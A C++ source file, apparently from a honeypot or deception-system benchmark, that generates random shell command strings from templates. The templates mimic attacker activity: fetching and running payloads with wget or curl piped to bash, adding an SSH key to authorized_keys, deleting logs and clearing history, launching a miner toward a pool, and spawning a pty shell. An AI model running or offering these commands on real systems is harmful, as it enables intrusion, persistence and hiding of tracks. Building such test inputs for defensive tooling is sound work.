#include "bench/command_texts.h"

#include <random>
#include <string_view>

namespace decnet::bench {
namespace {

// A `%` stands for something random.
constexpr std::string_view kShapes[] = {
    "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.%/% -O %; chmod 777 %; ./% %",
    "cat /proc/cpuinfo | grep name | wc -l",
    "uname -a; cat /etc/%; free -m",
    "echo -e \"%\\n%\\n%\"|passwd|bash",
    "ls -lh $(which %)",
    "/bin/busybox %",
    "cat /proc/mounts; /bin/busybox %",
    "rm -rf /var/log/%; history -c",
    "crontab -l; ps aux | grep %",
    "ps | grep '[%]iner' | awk '{print $%}'",
    "curl -s -L https://d%.example.org/%.sh | bash -s %",
    "echo % > /dev/shm/%; cat /dev/shm/%",
    "mkdir -p ~/.ssh && echo ssh-rsa % >> ~/.ssh/authorized_keys",
    "chmod +x %; nohup ./% -o 198.51.100.%:% -u % -p % >/dev/null 2>&1 &",
    "grep -c ^processor /proc/cpuinfo",
    "/ip cloud print",
    "ifconfig; netstat -an | grep %",
    "enable; system; shell; sh; %",
    "dd bs=52 count=1 if=/bin/% || cat /bin/%",
    "top -n 1 | head -%",
    "df -h | head -n % | awk 'FNR == 2 {print $2;}'",
    "w; last -n %",
    "export PATH=$PATH:/%; %",
    "python3 -c 'import pty; pty.spawn(\"/bin/%\")'",
};

}  // namespace

std::vector<std::string> command_texts(std::size_t count) {
  std::mt19937 random(20260101);
  const auto below = [&](std::size_t limit) { return random() % limit; };
  std::vector<std::string> texts;
  texts.reserve(count);
  while (texts.size() < count) {
    std::string text;
    for (const char c : kShapes[below(std::size(kShapes))]) {
      if (c != '%') {
        text += c;
        continue;
      }
      for (std::size_t letters = 1 + below(7); letters > 0; --letters) {
        text += "abcdefghijklmnopqrstuvwxyz0123456789"[below(36)];
      }
    }
    texts.push_back(std::move(text));
  }
  return texts;
}

}  // namespace decnet::bench
